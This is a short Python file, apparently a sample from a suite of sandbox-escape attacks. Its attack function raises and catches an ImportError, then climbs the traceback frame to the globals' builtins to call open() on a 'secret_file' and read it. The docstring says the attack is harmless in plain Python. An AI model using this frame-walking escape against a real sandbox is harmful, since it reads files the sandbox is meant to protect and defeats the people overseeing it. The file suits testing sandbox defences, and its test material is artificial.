"""Class: imports. Source: the refusal of an import can be caught. Escape: a file is read through what the caught refusal leads to.
Teeth: none, in plain Python the import just works and the handler is never entered.
"""


def attack(model, tokenizer, scene):
    try:
        if scene:
            import builtins_of_nobody
    except ImportError as error:
        for name in ("__traceback__", "name_from", "path", "obj", "tb_frame", "msg"):
            try:
                found = getattr(error, name)
                return found.tb_frame.f_globals["__builtins__"]["open"](scene["secret_file"]).read()
            except Exception:
                pass
